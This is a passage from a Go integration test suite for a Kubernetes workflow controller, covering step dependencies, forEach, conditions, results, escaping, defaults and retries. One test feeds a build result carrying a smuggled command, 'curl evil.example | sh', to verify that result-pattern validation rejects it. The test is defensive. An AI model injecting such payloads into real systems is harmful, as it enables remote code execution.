package workflow

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/cli-utils/pkg/kstatus/status"
	"sigs.k8s.io/controller-runtime/pkg/client"

	custodyv1alpha1 "github.com/custody-dev/custody/api/v1alpha1"
	"github.com/custody-dev/custody/internal/jobspec"
)

const linear = `
metadata: {name: release}
spec:
  parameters: [{name: version, value: "1.4.2"}]
  steps:
  - name: build
    image: example.com/build:1
    args: [build, "$(params.version)"]
    results: [{name: digest}]
  - name: scan
    dependsOn: [build]
    image: example.com/scan:1
    args: [scan, "$(steps.build.results.digest)"]
  - name: publish
    dependsOn: [scan]
    image: example.com/publish:1
    env: [{name: DIGEST, value: "$(steps.build.results.digest)"}]
`

func TestWorkflowReconciler_linear(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, linear)

	wf = waitStep(t, wf, "build", custodyv1alpha1.StepRunning)
	if st := stepOf(wf, "scan"); st.Phase != custodyv1alpha1.StepPending {
		t.Fatalf("scan is %s before build ended", st.Phase)
	}
	if n := len(jobs(t, wf)); n != 1 {
		t.Fatalf("%d Jobs exist while only build may run", n)
	}
	build := succeed(t, wf, "build", 1, `{"digest":"sha256:abc"}`)
	if got := build.Spec.Template.Spec.Containers[0].Args; !slices.Equal(got, []string{"build", "1.4.2"}) {
		t.Errorf("build args = %v, want the parameter substituted", got)
	}

	wf = waitStep(t, wf, "scan", custodyv1alpha1.StepRunning)
	if got := stepOf(wf, "build").Results; len(got) != 1 || got[0].Value != "sha256:abc" {
		t.Errorf("build results = %v", got)
	}
	scan := succeed(t, wf, "scan", 1, "")
	if got := scan.Spec.Template.Spec.Containers[0].Args; !slices.Equal(got, []string{"scan", "sha256:abc"}) {
		t.Errorf("scan args = %v, want build's result substituted", got)
	}
	waitStep(t, wf, "publish", custodyv1alpha1.StepRunning)
	publish := succeed(t, wf, "publish", 1, "")
	if got := publish.Spec.Template.Spec.Containers[0].Env; len(got) != 1 || got[0].Value != "sha256:abc" {
		t.Errorf("publish env = %v, want build's result substituted", got)
	}

	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	if wf.Status.Progress != "3/3" || wf.Status.CompletionTime == nil || wf.Status.ObservedGeneration != wf.Generation {
		t.Errorf("status: progress %q, completion %v, observedGeneration %d", wf.Status.Progress, wf.Status.CompletionTime, wf.Status.ObservedGeneration)
	}
	if got := kstatusOf(t, wf); got != status.CurrentStatus {
		t.Errorf("kstatus = %s, want Current for a succeeded workflow", got)
	}
	st := stepOf(wf, "publish")
	if st.JobName == "" || st.PodName == "" || st.NodeName != "node-a" || st.StartTime == nil || st.CompletionTime == nil || st.Attempt != 1 {
		t.Errorf("publish status is missing facts: %+v", st)
	}
	eventually(t, "events", func() error {
		got := eventReasons(t, wf)
		// Three steps succeeded, then the workflow did: four Events with reason Succeeded.
		if got[custodyv1alpha1.StepReasonStarted] != 3 || got[custodyv1alpha1.ReasonSucceeded] != 4 {
			return errorf("events by reason: %v", got)
		}
		return nil
	})
}

func TestWorkflowReconciler_diamondRunsBranchesInParallel(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: diamond}
spec:
  steps:
  - {name: fetch, image: example.com/git:1}
  - {name: lint, image: example.com/lint:1, dependsOn: [fetch]}
  - {name: test, image: example.com/test:1, dependsOn: [fetch]}
  - {name: publish, image: example.com/publish:1, dependsOn: [lint, test]}
`)
	succeed(t, wf, "fetch", 1, "")
	// Both branches start before either ends.
	jobOf(t, wf, "lint", 1)
	jobOf(t, wf, "test", 1)
	succeed(t, wf, "lint", 1, "")
	wf = waitStep(t, wf, "lint", custodyv1alpha1.StepSucceeded)
	if st := stepOf(wf, "publish"); st.Phase != custodyv1alpha1.StepPending {
		t.Fatalf("publish is %s while test still runs", st.Phase)
	}
	succeed(t, wf, "test", 1, "")
	succeed(t, wf, "publish", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
}

func TestWorkflowReconciler_wideStartsAllRoots(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: wide}
spec:
  steps:
  - {name: a, image: example.com/w:1}
  - {name: b, image: example.com/w:1}
  - {name: c, image: example.com/w:1}
  - {name: d, image: example.com/w:1}
  - {name: e, image: example.com/w:1}
  - {name: join, image: example.com/w:1, dependsOn: [a, b, c, d, e]}
`)
	eventually(t, "five Jobs at once", func() error {
		if n := len(jobs(t, wf)); n != 5 {
			return errorf("%d Jobs", n)
		}
		return nil
	})
	for _, s := range []string{"a", "b", "c", "d", "e"} {
		succeed(t, wf, s, 1, "")
	}
	succeed(t, wf, "join", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	// Steps started (and observed) by the same reconcile each have their own Event, about the step.
	eventually(t, "an Event per step and transition", func() error {
		for _, reason := range []string{custodyv1alpha1.StepReasonStarted, custodyv1alpha1.ReasonSucceeded} {
			got := stepEvents(t, wf, reason)
			for _, s := range []string{"a", "b", "c", "d", "e", "join"} {
				if notes := got[s]; len(notes) != 1 || !strings.HasPrefix(notes[0], "Step "+s+":") {
					return errorf("%s Events about step %s: %q (all: %q)", reason, s, notes, got)
				}
			}
		}
		return nil
	})
}

// TestWorkflowReconciler_forEach: a forEach step runs as one step per item, side by side, each
// with its item in its Job, its own attempts and retries, its own `when` (which sees the item);
// the step that depends on it waits for every item.
func TestWorkflowReconciler_forEach(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: rollout}
spec:
  parameters: [{name: version, value: "1.4.2"}]
  steps:
  - {name: build, image: example.com/b:1}
  - name: deploy
    image: example.com/d:1
    dependsOn: [build]
    forEach: [eu, us, ap, cn]
    when: "item != 'cn'"
    args: ["--region=$(item)", "--version=$(params.version)"]
    env: [{name: REGION, value: "$(item)"}]
    retries: {limit: 1, backoff: {duration: 1s}}
  - {name: verify, image: example.com/v:1, dependsOn: [deploy]}
`)
	succeed(t, wf, "build", 1, "")
	eventually(t, "a Job per item at once", func() error {
		if n := len(jobs(t, wf)); n != 4 {
			return errorf("%d Jobs, want build's and three deploys", n)
		}
		return nil
	})
	for _, item := range []string{"eu", "us", "ap"} {
		job := jobOf(t, wf, "deploy-"+item, 1)
		c := job.Spec.Template.Spec.Containers[0]
		if want := []string{"--region=" + item, "--version=1.4.2"}; !slices.Equal(c.Args, want) || len(c.Env) != 1 || c.Env[0].Value != item {
			t.Errorf("deploy-%s runs args %q env %+v, want %q and REGION=%s", item, c.Args, c.Env, want, item)
		}
	}
	fail(t, wf, "deploy-us", 1)
	succeed(t, wf, "deploy-eu", 1, "")
	succeed(t, wf, "deploy-ap", 1, "")
	jobOf(t, wf, "deploy-us", 2) // only the failed item is retried
	wf = waitStep(t, wf, "deploy-ap", custodyv1alpha1.StepSucceeded)
	if st := stepOf(wf, "verify"); st.Phase != custodyv1alpha1.StepPending {
		t.Fatalf("verify is %s while deploy-us is retried", st.Phase)
	}
	succeed(t, wf, "deploy-us", 2, "")
	succeed(t, wf, "verify", 1, "")
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	names := make([]string, 0, len(wf.Status.Steps))
	for _, st := range wf.Status.Steps {
		names = append(names, fmt.Sprintf("%s/%d", st.Name, st.Attempt))
	}
	if want := []string{"build/1", "deploy-eu/1", "deploy-us/2", "deploy-ap/1", "deploy-cn/0", "verify/1"}; !slices.Equal(names, want) {
		t.Errorf("status steps %q, want %q", names, want)
	}
	if n := len(jobs(t, wf)); n != 6 {
		t.Errorf("%d Jobs, want one per attempt (6)", n)
	}
	if st := stepOf(wf, "deploy-cn"); st.Phase != custodyv1alpha1.StepSkipped || st.Reason != custodyv1alpha1.StepReasonWhenFalse {
		t.Errorf("deploy-cn %s (%s), want Skipped by its when", st.Phase, st.Reason)
	}
}

func TestWorkflowReconciler_when(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: response}
spec:
  parameters: [{name: threshold, value: "70"}]
  steps:
  - {name: score, image: example.com/s:1, results: [{name: risk}]}
  - name: disable-account
    dependsOn: [score]
    when: "int(steps['score'].results.risk) > int(params.threshold)"
    image: example.com/idp:1
  - name: page-oncall
    dependsOn: [score]
    when: "int(steps['score'].results.risk) > 50"
    image: example.com/pager:1
  - {name: report, image: example.com/r:1, dependsOn: [disable-account, page-oncall]}
`)
	succeed(t, wf, "score", 1, `{"risk":"60"}`)
	wf = waitStep(t, wf, "disable-account", custodyv1alpha1.StepSkipped)
	if st := stepOf(wf, "disable-account"); st.Reason != custodyv1alpha1.StepReasonWhenFalse {
		t.Errorf("disable-account skipped with reason %q, want WhenFalse", st.Reason)
	}
	succeed(t, wf, "page-oncall", 1, "")
	// A step skipped by `when` counts as done: its dependents run.
	succeed(t, wf, "report", 1, "")
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	if n := len(jobs(t, wf)); n != 3 {
		t.Errorf("%d Jobs, want 3 (the skipped step has none)", n)
	}
}

// TestWorkflowReconciler_results: a run's results are computed when it ends, from parameters and
// the results of steps and finally steps; one reading a step that did not succeed is left out and
// an Event says why, without any value. A failed run still has the results its succeeded steps
// gave.
func TestWorkflowReconciler_results(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	const manifest = `
metadata: {name: %s}
spec:
  parameters: [{name: version, value: "1.4.2"}, {name: scan, value: "false"}]
  steps:
  - {name: build, image: example.com/b:1, results: [{name: digest}]}
  - {name: scan, image: example.com/s:1, dependsOn: [build], when: "params.scan == 'true'", results: [{name: report}]}
  - {name: test, image: example.com/t:1, dependsOn: [build]}
  finally:
  - {name: notify, image: example.com/n:1, results: [{name: ticket}]}
  results:
  - {name: image, value: "app:$(params.version)@$(steps.build.results.digest)"}
  - {name: report, value: "$(steps.scan.results.report)"}
  - {name: ticket, value: "$(steps.notify.results.ticket)"}
`
	wf := apply(t, ns, fmt.Sprintf(manifest, "release"))
	succeed(t, wf, "build", 1, `{"digest":"sha256:abc"}`)
	wf = waitStep(t, wf, "test", custodyv1alpha1.StepRunning)
	if wf.Status.Results != nil {
		t.Errorf("status.results = %+v while the run is going, want none before it ends", wf.Status.Results)
	}
	succeed(t, wf, "test", 1, "")
	succeed(t, wf, "notify", 1, `{"ticket":"OPS-7"}`)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	// report is left out: scan was skipped.
	wantResults(t, wf, custodyv1alpha1.StepResult{Name: "image", Value: "app:1.4.2@sha256:abc"},
		custodyv1alpha1.StepResult{Name: "ticket", Value: "OPS-7"})
	eventually(t, "the ResultNotProduced Event", func() error {
		msgs := stepEvents(t, wf, custodyv1alpha1.ReasonResultNotProduced)[""]
		if len(msgs) != 1 || !strings.Contains(msgs[0], `Result report not produced: $(steps.scan.results.report): step "scan" (Skipped) has no result "report"`) {
			return errorf("ResultNotProduced Events: %q", msgs)
		}
		return nil
	})

	failed := apply(t, ns, fmt.Sprintf(manifest, "release-failed"))
	succeed(t, failed, "build", 1, `{"digest":"sha256:def"}`)
	fail(t, failed, "test", 1)
	succeed(t, failed, "notify", 1, `{"ticket":"OPS-8"}`)
	failed = waitPhase(t, failed, custodyv1alpha1.WorkflowFailed)
	wantResults(t, failed, custodyv1alpha1.StepResult{Name: "image", Value: "app:1.4.2@sha256:def"},
		custodyv1alpha1.StepResult{Name: "ticket", Value: "OPS-8"})
}

// TestWorkflowReconciler_valuesAreEscapedForTheKubelet: the kubelet expands $(VAR) and turns $$
// into $ in a container's command, args and env values, so the controller doubles every $ of a
// parameter or result it puts in (internal/expr's TestForContainerAgainstTheKubelet runs
// Kubernetes' own expansion over the same rule) and leaves the author's text as written.
func TestWorkflowReconciler_valuesAreEscapedForTheKubelet(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: dollars}
spec:
  parameters: [{name: filter, value: "$.items[?(@.price > 5$$)]"}]
  steps:
  - {name: read, image: example.com/r:1, results: [{name: path}]}
  - name: use
    dependsOn: [read]
    image: example.com/u:1
    command: [sh, -c, 'echo "$$1 $(HOME)"', "$(params.filter)"]
    args: ["$(steps.read.results.path)"]
    env: [{name: FILTER, value: "$(params.filter)"}, {name: PATH_FROM_READ, value: "$(HOME)/$(steps.read.results.path)"}]
`)
	succeed(t, wf, "read", 1, `{"path":"$(SPIFFE_ENDPOINT_SOCKET)"}`)
	c := succeed(t, wf, "use", 1, "").Spec.Template.Spec.Containers[0]
	if want := []string{"sh", "-c", `echo "$$1 $(HOME)"`, "$$.items[?(@.price > 5$$$$)]"}; !slices.Equal(c.Command, want) {
		t.Errorf("command = %q, want %q", c.Command, want)
	}
	if want := []string{"$$(SPIFFE_ENDPOINT_SOCKET)"}; !slices.Equal(c.Args, want) {
		t.Errorf("args = %q, want %q", c.Args, want)
	}
	if len(c.Env) != 2 || c.Env[0].Value != "$$.items[?(@.price > 5$$$$)]" || c.Env[1].Value != "$(HOME)/$$(SPIFFE_ENDPOINT_SOCKET)" {
		t.Errorf("env = %+v, want the values with every $ doubled", c.Env)
	}
	// Status shows the result as the step wrote it.
	if got := stepOf(waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded), "read").Results; len(got) != 1 || got[0].Value != "$(SPIFFE_ENDPOINT_SOCKET)" {
		t.Errorf("read's results in status = %+v", got)
	}
}

// TestWorkflowReconciler_resultPattern: a result that does not match its declared pattern fails
// the attempt (ResultsInvalid, naming the result and pattern, never the value), and a step that
// reads it never starts with it; a retry that writes a matching one goes on.
func TestWorkflowReconciler_resultPattern(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: patterned}
spec:
  steps:
  - name: build
    image: example.com/b:1
    # Long enough for the test to see the Retrying status on a busy API server.
    retries: {limit: 1, backoff: {duration: 5s}}
    results: [{name: digest, pattern: 'sha256:[0-9a-f]{6,64}'}]
  - {name: deploy, image: example.com/d:1, dependsOn: [build], command: [sh, -c], args: ["deploy $(steps.build.results.digest)"]}
`)
	succeed(t, wf, "build", 1, `{"digest":"sha256:abc123; curl evil.example | sh"}`)
	eventually(t, "attempt 1 failed on its result", func() error {
		st := stepOf(get(t, wf), "build")
		want := `Results: result digest does not match its pattern "sha256:[0-9a-f]{6,64}"`
		if st.LastFailureReason != custodyv1alpha1.StepReasonResultsInvalid || !strings.Contains(st.Message, want) {
			return errorf("step build %s (%s, last failure %s): %s", st.Phase, st.Reason, st.LastFailureReason, st.Message)
		}
		if strings.Contains(st.Message, "evil") || len(st.Results) > 0 {
			return errorf("the value reached status: %q, %+v", st.Message, st.Results)
		}
		return nil
	})
	succeed(t, wf, "build", 2, `{"digest":"sha256:abc123"}`)
	if got := jobOf(t, wf, "deploy", 1).Spec.Template.Spec.Containers[0].Args; !slices.Equal(got, []string{"deploy sha256:abc123"}) {
		t.Errorf("deploy runs with args %q, want the result of attempt 2", got)
	}
}

// wantResults checks a finished run's status.results.
func wantResults(t *testing.T, wf *custodyv1alpha1.Workflow, want ...custodyv1alpha1.StepResult) {
	t.Helper()
	if !slices.Equal(wf.Status.Results, want) {
		t.Errorf("%s: status.results = %+v, want %+v", wf.Name, wf.Status.Results, want)
	}
}

// TestWorkflowReconciler_stepDefaults: steps take what they leave unset from stepDefaults (env
// before their own, resources, node pool, retries, timeout), finally steps too; what a step sets
// itself wins.
func TestWorkflowReconciler_stepDefaults(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: defaults}
spec:
  parameters: [{name: env, value: staging}]
  stepDefaults:
    env: [{name: TARGET, value: "$(params.env)"}, {name: LOG, value: info}]
    resources: {requests: {cpu: 100m}}
    nodeSelector: {pool: ci}
    imagePullPolicy: Always
    retries: {limit: 1, backoff: {duration: 1s}}
    timeout: 5m
    scratch: [{path: /workspace}]
  steps:
  - {name: build, image: example.com/b:1}
  - name: test
    image: example.com/t:1
    dependsOn: [build]
    env: [{name: LOG, value: debug}]
    resources: {requests: {cpu: "2"}}
    nodeSelector: {pool: big}
    imagePullPolicy: IfNotPresent
    retries: {limit: 0}
    timeout: 1m
    scratch: [{path: /cache}]
  finally:
  - {name: notify, image: example.com/n:1}
`)
	build := jobOf(t, wf, "build", 1)
	pod, env := build.Spec.Template.Spec, containerEnv(build)
	if env["TARGET"] != "staging" || env["LOG"] != "info" || pod.Containers[0].Resources.Requests.Cpu().String() != "100m" ||
		pod.NodeSelector["pool"] != "ci" || build.Spec.ActiveDeadlineSeconds == nil || *build.Spec.ActiveDeadlineSeconds != 300 ||
		pod.Containers[0].ImagePullPolicy != corev1.PullAlways {
		t.Errorf("build's Job: env %v, resources %v, nodeSelector %v, deadline %v, imagePullPolicy %s; want the defaults", env,
			pod.Containers[0].Resources.Requests, pod.NodeSelector, build.Spec.ActiveDeadlineSeconds, pod.Containers[0].ImagePullPolicy)
	}
	mounts := func(job *batchv1.Job) (out []string) {
		for _, m := range job.Spec.Template.Spec.Containers[0].VolumeMounts {
			out = append(out, m.MountPath)
		}
		return out
	}
	if got := mounts(build); !slices.Equal(got, []string{"/tmp", "/workspace"}) {
		t.Errorf("build's scratch directories %v, want /tmp and the default /workspace", got)
	}
	// The default retries: build is tried again.
	fail(t, wf, "build", 1)
	succeed(t, wf, "build", 2, "")
	test := jobOf(t, wf, "test", 1)
	pod, env = test.Spec.Template.Spec, containerEnv(test)
	if env["TARGET"] != "staging" || env["LOG"] != "debug" || pod.Containers[0].Resources.Requests.Cpu().String() != "2" ||
		pod.NodeSelector["pool"] != "big" || *test.Spec.ActiveDeadlineSeconds != 60 || pod.Containers[0].ImagePullPolicy != corev1.PullIfNotPresent {
		t.Errorf("test's Job: env %v, resources %v, nodeSelector %v, deadline %v, imagePullPolicy %s; want its own, and TARGET from the defaults",
			env, pod.Containers[0].Resources.Requests, pod.NodeSelector, *test.Spec.ActiveDeadlineSeconds, pod.Containers[0].ImagePullPolicy)
	}
	if got := mounts(test); !slices.Equal(got, []string{"/tmp", "/workspace", "/cache"}) {
		t.Errorf("test's scratch directories %v, want /tmp, the default /workspace and its own /cache", got)
	}
	// Its own retries: none.
	fail(t, wf, "test", 1)
	if got := jobOf(t, wf, "notify", 1).Spec.Template.Spec.NodeSelector["pool"]; got != "ci" {
		t.Errorf("the finally step runs on pool %q, want the default ci", got)
	}
	succeed(t, wf, "notify", 1, "")
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "test"); st.Attempt != 1 {
		t.Errorf("test ran %d attempts, want 1 (its own retries: none)", st.Attempt)
	}
}

// TestWorkflowReconciler_avoidFailedNodes: with retries.avoidFailedNodes each retry's pod prefers
// the nodes on which no earlier attempt of its step ran; without it, a retry may go anywhere.
func TestWorkflowReconciler_avoidFailedNodes(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	ctx := ctxT(t)
	wf := apply(t, ns, `
metadata: {name: flaky-nodes}
spec:
  steps:
  - {name: a, image: example.com/a:1, retries: {limit: 2, backoff: {duration: 1s}, avoidFailedNodes: true}}
  - {name: b, image: example.com/b:1, retries: {limit: 1, backoff: {duration: 1s}}}
`)
	avoided := func(job *batchv1.Job) []string {
		t.Helper()
		a := job.Spec.Template.Spec.Affinity
		if a == nil || a.NodeAffinity == nil {
			return nil
		}
		var nodes []string
		for _, term := range a.NodeAffinity.PreferredDuringSchedulingIgnoredDuringExecution {
			for _, req := range term.Preference.MatchExpressions {
				if req.Key == corev1.LabelHostname && req.Operator == corev1.NodeSelectorOpNotIn && term.Weight == 100 {
					nodes = append(nodes, req.Values...)
				}
			}
		}
		return nodes
	}
	if got := avoided(jobOf(t, wf, "a", 1)); got != nil {
		t.Errorf("attempt 1 avoids %v, want no node", got)
	}
	fail(t, wf, "a", 1) // on the test node
	job2 := jobOf(t, wf, "a", 2)
	if got := avoided(job2); !slices.Equal(got, []string{testNode}) {
		t.Errorf("attempt 2 avoids %v, want attempt 1's node %s", got, testNode)
	}
	pod := createPodOn(t, job2, "z9x8w", "node-b")
	pod.Status = corev1.PodStatus{Phase: corev1.PodFailed, ContainerStatuses: []corev1.ContainerStatus{{Name: jobspec.ContainerName,
		State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 1, Reason: "Error", FinishedAt: metav1.Now()}}}}}
	if err := env.Client.Status().Update(ctx, pod); err != nil {
		t.Fatal(err)
	}
	eventually(t, "attempt 2's node recorded", func() error {
		if st := stepOf(get(t, wf), "a"); st.NodeName != "node-b" {
			return errorf("step a on node %q", st.NodeName)
		}
		return nil
	})
	finishJob(t, job2, false, batchv1.JobReasonBackoffLimitExceeded)
	if got := avoided(jobOf(t, wf, "a", 3)); !slices.Equal(got, []string{testNode, "node-b"}) {
		t.Errorf("attempt 3 avoids %v, want the nodes of attempts 1 and 2", got)
	}
	fail(t, wf, "b", 1)
	if got := avoided(jobOf(t, wf, "b", 2)); got != nil {
		t.Errorf("b's retry avoids %v, want no node (no avoidFailedNodes)", got)
	}
}

// TestWorkflowReconciler_imagePullPolicy: a step's imagePullPolicy is its container's; unset,
// Kubernetes decides, so an image tagged :latest, or not tagged, is pulled at every attempt
// rather than run as whatever version the node has.
func TestWorkflowReconciler_imagePullPolicy(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: pulls}
spec:
  steps:
  - {name: latest, image: example.com/tool:latest}
  - {name: untagged, image: example.com/tool}
  - {name: tagged, image: "example.com/tool:1.4"}
  - {name: preloaded, image: "example.com/tool:1.4", imagePullPolicy: Never}
`)
	for step, want := range map[string]corev1.PullPolicy{
		"latest": corev1.PullAlways, "untagged": corev1.PullAlways, "tagged": corev1.PullIfNotPresent, "preloaded": corev1.PullNever,
	} {
		if got := jobOf(t, wf, step, 1).Spec.Template.Spec.Containers[0].ImagePullPolicy; got != want {
			t.Errorf("step %s's container pulls %s, want %s", step, got, want)
		}
	}
}

// containerEnv returns the literal env values of a Job's step container.
func containerEnv(job *batchv1.Job) map[string]string {
	env := map[string]string{}
	for _, e := range job.Spec.Template.Spec.Containers[0].Env {
		env[e.Name] = e.Value
	}
	return env
}

func TestWorkflowReconciler_retryThenSuccess(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: flaky}
spec:
  steps:
  - name: call
    image: example.com/c:1
    retries: {limit: 2, backoff: {duration: 5s, factor: 2, max: 10s}}
`)
	// The backoff is long enough for the test to see the Retrying status on a
	// busy API server (a 1 s backoff could pass between two polls).
	first := fail(t, wf, "call", 1)
	wf = waitStep(t, wf, "call", custodyv1alpha1.StepRetrying)
	st := stepOf(wf, "call")
	if st.NextAttemptTime == nil || st.LastFailureReason != custodyv1alpha1.StepReasonJobFailed || !strings.Contains(st.Message, "exited with code 1") {
		t.Errorf("retrying status: %+v", st)
	}
	second := jobOf(t, wf, "call", 2)
	if second.Name == first.Name || second.Spec.Template.Spec.ServiceAccountName == first.Spec.Template.Spec.ServiceAccountName {
		t.Errorf("attempt 2 reuses attempt 1's Job or ServiceAccount (%s)", second.Name)
	}
	// Attempt 1's identity ends with it.
	eventually(t, "attempt 1's ServiceAccount to be deleted", func() error {
		sa := &corev1.ServiceAccount{}
		err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: ns, Name: first.Spec.Template.Spec.ServiceAccountName}, sa)
		if !isNotFound(err) {
			return errorf("still there (err %v)", err)
		}
		return nil
	})
	succeed(t, wf, "call", 2, "")
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	st = stepOf(wf, "call")
	if st.Attempt != 2 || st.LastFailureReason != custodyv1alpha1.StepReasonJobFailed {
		t.Errorf("after the retry succeeded: attempt %d, lastFailureReason %q", st.Attempt, st.LastFailureReason)
	}
}

// TestWorkflowReconciler_retryJitter: with backoff.jitter the retry is due earlier than the full
// backoff, by this run's own share of the jitter, and status says when.
func TestWorkflowReconciler_retryJitter(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: jittery}
spec:
  steps:
  - name: call
    image: example.com/c:1
    retries: {limit: 1, backoff: {duration: 1h, max: 1h, jitter: 50}}
`)
	before := time.Now().Truncate(time.Second)
	fail(t, wf, "call", 1)
	wf = waitStep(t, wf, "call", custodyv1alpha1.StepRetrying)
	after := time.Now()
	wait := backoff(wf.Spec.Steps[0].Retries, string(wf.UID)+"/call", 1)
	if wait < 30*time.Minute || wait >= time.Hour {
		t.Fatalf("backoff with 50%% jitter of 1h: %s", wait)
	}
	st := stepOf(wf, "call")
	if st.NextAttemptTime == nil || st.NextAttemptTime.Time.Before(before.Add(wait-time.Second)) || st.NextAttemptTime.After(after.Add(wait)) {
		t.Errorf("next attempt at %v; want %s after the failure, between %s and %s", st.NextAttemptTime, wait,
			before.Add(wait-time.Second).Format(time.RFC3339), after.Add(wait).Format(time.RFC3339))
	}
}

// TestWorkflowReconciler_retryWhen: retries.when decides after each failed attempt whether the
// step is tried again, from how the attempt failed (exit code, a disrupted pod, how long it ran) and the
// parameters; a step it refuses fails at once with its own reason and says why it was not
// retried, and an expression that cannot be evaluated retries nothing.
func TestWorkflowReconciler_retryWhen(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: picky}
spec:
  parameters: [{name: env, value: staging}]
  steps:
  - name: migrate
    image: example.com/m:1
    onFailure: Continue
    retries: {limit: 5, backoff: {duration: 1s}, when: "disrupted || (exitCode != 2 && params.env != 'prod')"}
  - name: deploy
    image: example.com/d:1
    onFailure: Continue
    retries: {limit: 5, backoff: {duration: 5s}, when: "disrupted"}
  - name: smoke
    image: example.com/s:1
    onFailure: Continue
    retries: {limit: 5, backoff: {duration: 1s}, when: "int(params.env) > 0"}
  - name: load
    image: example.com/l:1
    onFailure: Continue
    retries: {limit: 5, backoff: {duration: 1s}, when: "duration < duration('1m')"}
`)
	evicted := corev1.PodCondition{Type: corev1.DisruptionTarget, Status: corev1.ConditionTrue, Reason: "EvictionByEvictionAPI",
		LastTransitionTime: metav1.Now()}
	failWith(t, wf, "migrate", 1, 1)
	failWith(t, wf, "migrate", 2, 137, evicted)
	failWith(t, wf, "migrate", 3, 2) // an exit code the step says is not worth retrying
	failWith(t, wf, "deploy", 1, 137, evicted)
	// The backoff is long enough to see the Retrying status, which says how the pod ended.
	if st := stepOf(waitStep(t, wf, "deploy", custodyv1alpha1.StepRetrying), "deploy"); !strings.Contains(st.Message,
		"exited with code 137 (Error); its pod was disrupted (EvictionByEvictionAPI)") {
		t.Errorf("deploy retrying: %q, want the disruption named", st.Message)
	}
	failWith(t, wf, "deploy", 2, 1)
	failWith(t, wf, "smoke", 1, 1)
	failWith(t, wf, "load", 1, 1) // at once: retried
	job := jobOf(t, wf, "load", 2)
	runPodFor(t, job, time.Hour, 1, "") // after an hour's work: not
	finishJob(t, job, false, batchv1.JobReasonBackoffLimitExceeded)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	for _, want := range []struct {
		step    string
		attempt int32
		message string
	}{
		{"migrate", 3, "Attempt 3 of 6 failed (JobFailed): the step container exited with code 2 (Error); not retried: retries.when is false"},
		{"deploy", 2, "Attempt 2 of 6 failed (JobFailed): the step container exited with code 1 (Error); not retried: retries.when is false"},
		{"smoke", 1, "Attempt 1 of 6 failed (JobFailed): the step container exited with code 1 (Error); not retried: retries.when could " +
			"not be evaluated: type conversion error"},
		{"load", 2, "Attempt 2 of 6 failed (JobFailed): the step container exited with code 1 (Error); not retried: retries.when is false"},
	} {
		st := stepOf(wf, want.step)
		if st.Phase != custodyv1alpha1.StepFailed || st.Reason != custodyv1alpha1.StepReasonJobFailed || st.Attempt != want.attempt ||
			!strings.Contains(st.Message, want.message) {
			t.Errorf("%s: %s (%s) attempt %d: %q; want Failed (JobFailed) on attempt %d with %q", want.step, st.Phase, st.Reason,
				st.Attempt, st.Message, want.attempt, want.message)
		}
		next := jobspec.Name(wf.Name, string(wf.UID), want.step, want.attempt+1)
		if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: ns, Name: next}, &batchv1.Job{}); !isNotFound(err) {
			t.Errorf("%s: attempt %d has a Job (err %v); retries.when refused it", want.step, want.attempt+1, err)
		}
	}
	if notes := waitStepEvents(t, wf, "migrate", custodyv1alpha1.StepReasonJobFailed); !strings.Contains(notes[0], "not retried: retries.when is false") {
		t.Errorf("migrate's failure Event: %q, want it to say why the step was not retried", notes)
	}
}

func TestWorkflowReconciler_retriesExhausted(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: broken}
spec:
  steps:
  - {name: call, image: example.com/c:1, retries: {limit: 1, backoff: {duration: 1s}}}
  - {name: after, image: example.com/a:1, dependsOn: [call]}
`)
	fail(t, wf, "call", 1)
	fail(t, wf, "call", 2)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "call"); st.Phase != custodyv1alpha1.StepFailed || st.Reason != custodyv1alpha1.ReasonRetriesExhausted || st.Attempt != 2 {
		t.Errorf("call: %+v", st)
	}
	if st := stepOf(wf, "after"); st.Phase != custodyv1alpha1.StepSkipped || st.Reason != custodyv1alpha1.StepReasonDependencyNotSucceeded {
		t.Errorf("after: %s (%s), want Skipped because its dependency failed", st.Phase, st.Reason)
	}
	if got := kstatusOf(t, wf); got != status.FailedStatus {
